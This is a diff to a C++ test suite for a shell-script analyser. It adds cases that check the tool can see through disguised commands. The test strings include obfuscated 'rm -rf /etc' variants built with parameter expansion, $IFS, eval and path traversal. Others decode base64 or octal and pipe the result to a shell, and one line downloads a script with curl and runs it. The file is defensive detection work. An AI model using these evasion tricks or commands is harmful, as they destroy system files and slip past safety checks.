@@ -6,6 +6,7 @@
 #include <string>
 
 #include "base/text.h"
+#include "lower/shell/place.h"
 #include "lower/shell/shell.h"
 
 namespace redtag {
@@ -26,6 +27,9 @@ std::size_t removals(const Model& model) {
   return static_cast<std::size_t>(std::count_if(model.operations.begin(), model.operations.end(),
                                                 [](const Operation& o) { return o.program == "rm"; }));
 }
+
+/// The path that an operation aims at, without doubled slashes and steps back.
+std::string tidy_target(const Operation& operation) { return shell::tidy_path(operation.target.text); }
 
 TEST(ShellHostile, ReadsAMegabyteOnOneLine) {
   EXPECT_EQ(removals(lowered("x.sh", "#!/bin/sh\n" + repeated("rm -rf /srv/x; ", 70'000) + "\n")), 70'000U);
@@ -74,6 +78,52 @@ TEST(ShellHostile, SeesThroughDisguise) {
       return o.program == "rm" && o.target.text == "/etc";
     })) << line;
   }
+}
+
+TEST(ShellHostile, SeesThroughWhatTheShellMakesOfWords) {
+  for (const std::string_view line :
+       {"s=xrmx; ${s:1:2} -rf /etc", "c=rXm; ${c/X/} -rf /etc", "p=/tmp/rm.bak; ${p%.*} -rf /etc",
+        "p=xx/rm; ${p##*/} -rf /etc", "p=rm/xx; ${p%%/*} -rf /etc", "r\\\nm -rf /e\\\ntc", "rm$IFS-rf$IFS/etc",
+        "rm$IFS$9-rf$IFS$9/etc", "r${x:+y}m$@ -rf /etc", "$(which rm) -rf /etc", "`command -v rm` -rf /etc",
+        "rm -rf /tmp/../etc", "cd /tmp && rm -rf ../etc", "rm -rf //var/./lib/../../etc/",
+        "c=\"rm -rf $nothing\"; $c /etc", "echo 'rm -rf /etc' | tee log | cat | sh",
+        "echo 'rm -rf /etc' | . /dev/stdin", "f() { cmd=\"ssh h $1\"; eval \"$cmd\"; }\nf 'rm -rf /etc'",
+        "aws ssm send-command --document-name AWS-RunShellScript --parameters 'commands=[\"rm -rf \\\"/etc\\\"\"]'"}) {
+    const Model model = lowered("x.sh", std::string(line) + "\n");
+    EXPECT_TRUE(std::any_of(model.operations.begin(), model.operations.end(), [](const Operation& o) {
+      return o.program == "rm" && tidy_target(o) == "/etc";
+    })) << line;
+  }
+}
+
+TEST(ShellHostile, SaysWhatNobodyCanRead) {
+  for (const std::string_view line :
+       {"bash <<< \"$(base64 -d <<< cm0=)\"", "bash < <(base64 -d x.b64)", "echo cm0= | base64 -d > x.sh\nsh x.sh",
+        "echo cm0= | base64 -d > ./x && chmod +x ./x && ./x",
+        "curl -fsSo /tmp/i.sh https://a.example/i\nbash /tmp/i.sh", "printf '\\162\\155 -rf /etc' | sh",
+        "printf '%b' 'r\\155 -rf /etc' | bash", "echo 'Xm -rf /etc' | sed s/X/r/ | sh", "list_of_commands | sh",
+        "awk '{print \"rm \" $1}' names | sh", "r\xe2\x80\x8bm -rf /etc", "/bin/r? -rf /etc",
+        "echo 'rm -rf /etc' | xargs -I{} sh -c '{}'", "c=$(make_name); $c -rf /etc",
+        "python3 -c \"import base64,os;os.system(base64.b64decode('cm0=').decode())\"",
+        "perl -MMIME::Base64 -e 'system(decode_base64(\"cm0=\"))'"}) {
+    const Model model = lowered("x.sh", std::string(line) + "\n");
+    EXPECT_TRUE(std::any_of(model.operations.begin(), model.operations.end(), [](const Operation& o) {
+      return o.action == "unread" && o.object.ends_with(" program");
+    })) << line;
+  }
+  for (const std::string_view line : {"echo 'ls' | sh", "cat <<E | sh\nls\nE", "printf 'a\\tb\\n'",
+                                      "echo cm0= | base64 -d > x.sh\ncat x.sh", "sh x.sh", "names | sort | uniq",
+                                      "python3 -c \"import base64; print(base64.b64decode('cm0='))\"", "ls /bin/r?"}) {
+    const Model model = lowered("x.sh", std::string(line) + "\n");
+    EXPECT_TRUE(std::none_of(model.operations.begin(), model.operations.end(), [](const Operation& o) {
+      return o.action == "unread";
+    })) << line;
+  }
+}
+
+TEST(ShellHostile, LooksBackAFewCommandsOnly) {
+  const Model model = lowered("x.sh", repeated("base64 -d y > z\n", 5'000) + repeated("./x\n", 5'000));
+  EXPECT_LE(model.operations.size(), 12'000U);
 }
 
 }  // namespace
